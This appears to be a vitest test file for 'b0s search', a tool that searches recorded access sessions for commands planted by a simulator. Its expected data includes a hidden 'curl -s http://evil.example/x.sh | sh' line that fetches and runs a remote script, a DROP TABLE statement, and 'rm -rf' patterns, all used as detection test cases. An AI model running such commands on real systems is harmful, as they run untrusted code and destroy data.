// b0s search against the simulator: every session whose recordings hold a planted
// command is found (checked against the recordings themselves), every filter holds, the
// lines it reports are the lines `b0s replay` prints, and the exit codes.
import { spawn } from 'node:child_process';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import type { Session } from '../src/api/types';
import { decodeRecordingBody } from '../src/recording';
import { compileMatcher } from '../src/recording/matcher';
import { CancelledError, UsageError } from '../src/errors';
import { parseNdjson } from './helpers/parse';
import { SIM_NOW, useSimulator } from './helpers/sim';
import { useTempDir } from './helpers/tmp';
import { b0s, recordOutput } from './helpers/world';

const { sim, env } = useSimulator({ sessions: 100 });
const tmp = useTempDir();

interface Hit {
  session_id: string;
  socket_id: string;
  socket_name: string;
  user_email: string;
  session_type: string;
  start_time: string;
  recording_id: string;
  recording_type: string;
  line: number;
  section: 'screen' | 'hidden' | 'log';
  time: string | null;
  text: string;
  before: string[];
  after: string[];
}

// Planted by the simulator: a download piped to a shell hidden behind a carriage return
// (terminal), a denied DROP TABLE (database), secrets read (Kubernetes), a role grant
// (Snowflake), a refused deletion (S3).
const PLANTED = ['evil.example', 'DROP TABLE', 'secrets', 'GRANT ROLE', 'AccessDenied'];
const PATTERN = PLANTED.map((p) => p.replace('.', '\\.')).join('|');

const all = (): Session[] => Array.from({ length: sim().sessionCount() }, (_, i) => sim().sessionAt(i));

/** The sessions whose recordings, as the API sends them, hold one of the words. */
async function oracle(sessions: Session[], words: string[]): Promise<Set<string>> {
  const found = new Set<string>();
  for (const s of sessions) {
    for (const r of s.recordings ?? []) {
      const res = await fetch(`${sim().url}/session/${s.socket_id}/${s.session_id}/session_log?recording_id=${r.recording_id}`, { headers: { 'x-access-token': sim().token } });
      const text = decodeRecordingBody(new Uint8Array(await res.arrayBuffer()), res.headers.get('content-type') ?? '');
      if (words.some((w) => text.includes(w))) found.add(s.session_id);
    }
  }
  return found;
}

const ended = (s: Session) => s.result === 'success' && Boolean(s.end_time);

describe('b0s search', () => {
  it('finds every session with a planted command, in the text a person saw, hidden text included', async () => {
    // Live sessions' recordings grow while the test reads them; the ended ones hold still.
    const r = await b0s(['search', '--regex', PATTERN, '--status', 'ended,killed', '-o', 'ndjson'], { env: env() });
    expect(r.code).toBe(0);
    const hits = parseNdjson(r.stdout) as Hit[];
    const expected = await oracle(all().filter((s) => s.end_time && s.result === 'success'), PLANTED);
    expect(new Set(hits.map((h) => h.session_id))).toEqual(expected);
    expect(expected.size).toBeGreaterThan(5);
    for (const h of hits) expect(PLANTED.some((p) => h.text.includes(p))).toBe(true);
    // Each kind of recording contributed, and the shell's hidden download was found as hidden.
    expect(new Set(hits.map((h) => h.recording_type))).toEqual(new Set(['asciinema', 'database_query_log', 'kubernetes_api_request_log', 'snowflake_query_log', 'aws_s3_api_request_log']));
    const curl = hits.filter((h) => h.text.includes('evil.example'));
    expect(curl.length).toBeGreaterThan(0);
    for (const h of curl) expect([h.section, h.text]).toEqual(['hidden', 'curl -s http://evil.example/x.sh | sh']);
    // Every match names its session as the list does, and the order is the walk's: newest first.
    const starts = hits.map((h) => Date.parse(h.start_time));
    expect([...starts].sort((a, b) => b - a)).toEqual(starts);
    const byId = new Map(all().map((s) => [s.session_id, s]));
    for (const h of hits) expect(byId.get(h.session_id)?.user_email).toBe(h.user_email);
  });

  it('reports the line number, time and context that b0s replay shows for the recording', async () => {
    const r = await b0s(['search', 'DROP TABLE', '-C', '1', '--type', 'database', '-o', 'json'], { env: env() });
    expect(r.code).toBe(0);
    const hits = JSON.parse(r.stdout) as Hit[];
    expect(hits.length).toBeGreaterThan(0);
    for (const h of hits.slice(0, 3)) {
      const replay = await b0s(['replay', `${h.socket_id}/${h.session_id}`, '--recording', h.recording_id], { env: env() });
      const lines = replay.stdout.split('\n');
      expect(lines[h.line - 1]).toBe(h.text);
      expect(h.before).toEqual(lines.slice(h.line - 2, h.line - 1));
      expect(h.after).toEqual(lines.slice(h.line, h.line + 1).filter((l) => l !== ''));
      expect(h.time && h.text.startsWith(h.time)).toBe(true);
    }
    const hidden = await b0s(['search', 'evil.example', '--user', 'mallory@example.net', '-o', 'ndjson'], { env: env() });
    const h = (parseNdjson(hidden.stdout) as Hit[])[0]!;
    const replay = await b0s(['replay', `${h.socket_id}/${h.session_id}`, '--recording', h.recording_id], { env: env() });
    expect(replay.stdout.split('\n')[h.line - 1]).toBe(h.text);
  });

  it('respects every list filter', async () => {
    const since = new Date(SIM_NOW - 10 * 86_400_000).toISOString();
    const until = new Date(SIM_NOW - 3 * 86_400_000).toISOString();
    const cases: Array<[string[], (s: Session) => boolean]> = [
      [['--user', 'mallory@example.net,Hubert@Example.com'], (s) => ['mallory@example.net', 'hubert@example.com'].includes(String(s.user_email))],
      [['--socket', 'orders-db', '--socket', 'prod-k8s'], (s) => ['orders-db', 'prod-k8s'].includes(String(s.socket_name))],
      [['--type', 'snowflake,s3'], (s) => ['snowflake', 's3'].includes(String(s.session_type))],
      [['--status', 'killed'], (s) => Boolean(s.killed)],
      [['--since', since, '--until', until], (s) => Date.parse(s.start_time!) >= Date.parse(since) && Date.parse(s.start_time!) <= Date.parse(until)],
    ];
    for (const [flags, keep] of cases) {
      const r = await b0s(['search', '--regex', PATTERN, ...flags, '-o', 'ndjson'], { env: env() });
      const hits = parseNdjson(r.stdout) as Hit[];
      const byId = new Map(all().map((s) => [s.session_id, s]));
      for (const h of hits) expect(keep(byId.get(h.session_id)!), `${flags.join(' ')}: ${h.session_id}`).toBe(true);
      const expected = await oracle(all().filter((s) => keep(s) && ended(s)), PLANTED);
      const found = new Set(hits.filter((h) => ended(byId.get(h.session_id)!)).map((h) => h.session_id));
      expect(found, flags.join(' ')).toEqual(expected);
      expect(r.code, flags.join(' ')).toBe(hits.length > 0 ? 0 : 1);
    }
  });

  it('exit 1 and no output when nothing matches; -i ignores case; text output names session, user, socket and time', async () => {
    const none = await b0s(['search', 'drop table', '--type', 'database'], { env: env() });
    expect([none.code, none.stdout, none.stderr]).toEqual([1, '', '']);
    const folded = await b0s(['search', 'drop table', '-i', '--type', 'database'], { tty: { stdout: true, stderr: true }, env: { ...env(), NO_COLOR: '1' } });
    expect(folded.code).toBe(0);
    const [head, match] = folded.stdout.split('\n');
    expect(head).toMatch(/^[0-9a-f-]{36}\/[0-9a-f-]{36} {2}\d{4}-\d\d-\d\dT\S+Z {2}\S+@\S+ {2}\S+-db {2}database$/);
    expect(match).toMatch(/^ {2}\d{4}-\S+Z {2}\S+ +denied .*DROP TABLE audit_notes {2}→ command denied by policy$/);
    expect(folded.stderr).toMatch(/\d+ match(es)? in \d+ recordings of \d+ sessions/);
  });

  it('Ctrl-C: exit 130, and the JSON written so far is a closed array; nothing matched is [] and exit 1', async () => {
    sim().setOptions({ latencyMs: 20 });
    try {
      const stop = new AbortController();
      setTimeout(() => stop.abort(new CancelledError('interrupted')), 400);
      const r = await b0s(['search', '--regex', PATTERN, '-o', 'json', '--concurrency', '2'], { env: env(), signal: stop.signal });
      expect(r.code).toBe(130);
      expect(Array.isArray(JSON.parse(r.stdout))).toBe(true);
    } finally {
      sim().setOptions({ latencyMs: 0 });
    }
    const none = await b0s(['search', 'no such text anywhere', '--type', 'http', '-o', 'json'], { env: env() });
    expect([none.code, JSON.parse(none.stdout)]).toEqual([1, []]);
  });

  it('the output setting (B0S_OUTPUT) picks json or ndjson when -o is not given; table and csv leave it text', async () => {
    const none = await b0s(['search', 'no such text anywhere', '--type', 'http'], { env: { ...env(), B0S_OUTPUT: 'json' } });
    expect([none.code, JSON.parse(none.stdout)]).toEqual([1, []]);
    const lines = await b0s(['search', 'drop table', '-i', '--type', 'database', '--limit', '40'], { env: { ...env(), B0S_OUTPUT: 'ndjson' } });
    expect(lines.code).toBe(0);
    expect(lines.stdout.trim().split('\n').map((l) => JSON.parse(l) as { text: string }).every((m) => /drop table/i.test(m.text))).toBe(true);
    const text = await b0s(['search', 'drop table', '-i', '--type', 'database', '--limit', '40'], { env: { ...env(), B0S_OUTPUT: 'csv' } });
    expect(text.stdout).toMatch(/^[0-9a-f-]{36}\/[0-9a-f-]{36} {2}/);
    const given = await b0s(['search', 'drop table', '-i', '--type', 'database', '--limit', '40', '-o', 'text'], { env: { ...env(), B0S_OUTPUT: 'json' } });
    expect(given.stdout).toBe(text.stdout);
  });

  it('an invalid regular expression is exit 2 before any request; RE2 refuses backreferences', async () => {
    sim().resetRequests();
    for (const pattern of ['a(', '(a)\\1', '(?=x)']) {
      const r = await b0s(['search', '--regex', pattern], { env: env() });
      expect(r.code).toBe(2);
      expect(r.stderr).toMatch(/^b0s: invalid --regex pattern: .*\(RE2 syntax: no backreferences or lookaround\)\n$/);
    }
    expect(sim().requests).toHaveLength(0);
  });

  it('-C: each line printed once, as grep -C does, with "--" between groups that are apart', async () => {
    const args = ['search', '--regex', 'UPDATE|SELECT|orders', '-C', '2', '--type', 'database', '--limit', '6'];
    const hits = parseNdjson((await b0s([...args, '-o', 'ndjson'], { env: env() })).stdout) as Hit[];
    const text = await b0s(args, { env: env() });
    expect(text.code).toBe(0);
    // Per recording: the lines of every match's window, once each, and a gap between runs.
    const expected = new Map<string, { lines: number; gaps: number }>();
    const byRecording = new Map<string, Hit[]>();
    for (const h of hits) byRecording.set(h.recording_id, [...(byRecording.get(h.recording_id) ?? []), h]);
    let overlapping = 0;
    for (const [id, ms] of byRecording) {
      const lines = new Set<number>();
      for (const m of ms) for (let l = m.line - m.before.length; l <= m.line + m.after.length; l++) lines.add(l);
      const sorted = [...lines].sort((a, b) => a - b);
      const gaps = sorted.filter((l, i) => i > 0 && l > (sorted[i - 1] as number) + 1).length;
      overlapping += ms.reduce((n, m) => n + m.before.length + m.after.length + 1, 0) - lines.size;
      expected.set(id, { lines: lines.size, gaps });
    }
    // The data has matches close enough to share context, or this test checks nothing.
    expect(overlapping).toBeGreaterThan(0);
    // Each session's block: its header line, then the lines (one session, one recording here).
    const blocks = text.stdout.split(/\n(?=\S)/).map((b) => b.trimEnd().split('\n').slice(1));
    const sessions = [...new Set(hits.map((h) => h.session_id))];
    expect(blocks).toHaveLength(sessions.length);
    blocks.forEach((block, i) => {
      const ids = [...byRecording.keys()].filter((id) => byRecording.get(id)?.[0]?.session_id === sessions[i]);
      const want = ids.reduce((sum, id) => sum + (expected.get(id)?.lines ?? 0) + (expected.get(id)?.gaps ?? 0), 0);
      const recordingHeaders = block.filter((l) => /^ {2}recording /.test(l)).length;
      expect(block.length - recordingHeaders).toBe(want);
      expect(block.filter((l) => l === '  --').length).toBe(ids.reduce((sum, id) => sum + (expected.get(id)?.gaps ?? 0), 0));
    });
  });

  it('a pattern built to backtrack runs in linear time on a line built for it', () => {
    // Exponential for a backtracking engine: 2^40 paths. Bounded here by the test timeout.
    const m = compileMatcher({ pattern: '(a|aa)+$', regex: true, ignoreCase: false });
    expect(m.test(`${'a'.repeat(100_000)}!`)).toBe(false);
    expect(compileMatcher({ pattern: '(x+x+)+y', regex: true, ignoreCase: false }).test('x'.repeat(50_000))).toBe(false);
    expect(() => compileMatcher({ pattern: '', regex: false, ignoreCase: false })).toThrow(UsageError);
    // Plain text is a literal: regex characters mean themselves.
    expect(compileMatcher({ pattern: 'a.b(', regex: false, ignoreCase: false }).ranges('xa.b(ya.b(')).toEqual([[1, 5], [6, 10]]);
  });

  it('plain text: every printable ASCII character means itself, alone and in a pattern such as `rm -rf /`', () => {
    const printable = Array.from({ length: 0x7f - 0x20 }, (_, i) => String.fromCharCode(0x20 + i));
    for (const c of printable) {
      const m = compileMatcher({ pattern: `x${c}y`, regex: false, ignoreCase: false });
      expect(m.ranges(`a x${c}y b`), JSON.stringify(c)).toEqual([[2, 5]]);
      // Only the character itself: a pattern character never matches another one.
      const other = printable.find((o) => o !== c && o.toLowerCase() !== c.toLowerCase()) as string;
      expect(m.test(`x${other}y`), JSON.stringify(c)).toBe(false);
    }
    expect(compileMatcher({ pattern: 'sudo rm -rf /var/log/*', regex: false, ignoreCase: true }).test('$ SUDO RM -RF /var/log/* # oops')).toBe(true);
  });

  it('the bin: worker threads at the default concurrency give the same output as one at a time', async () => {
    const run = (extra: string[]) =>
      new Promise<{ code: number | null; stdout: string }>((resolve) => {
        const home = tmp('home');
        const child = spawn(process.execPath, [path.join(__dirname, '..', 'bin', 'b0s'), 'search', '--regex', PATTERN, '-C', '2', ...extra], {
          env: { PATH: process.env.PATH ?? '', HOME: home, TMPDIR: os.tmpdir(), ...env() },
          stdio: ['ignore', 'pipe', 'pipe'],
        });
        const out: Buffer[] = [];
        const err: Buffer[] = [];
        child.stdout.on('data', (d: Buffer) => out.push(d));
        child.stderr.on('data', (d: Buffer) => err.push(d));
        child.on('close', (code) => {
          recordOutput(Buffer.concat(out), Buffer.concat(err));
          resolve({ code, stdout: Buffer.concat(out).toString('utf8') });
        });
      });
    const [parallel, sequential] = await Promise.all([run([]), run(['--concurrency', '1'])]);
    expect(parallel.code).toBe(0);
    expect(parallel.stdout).toBe(sequential.stdout);
    expect(parallel.stdout).toContain('evil.example');
  });
});
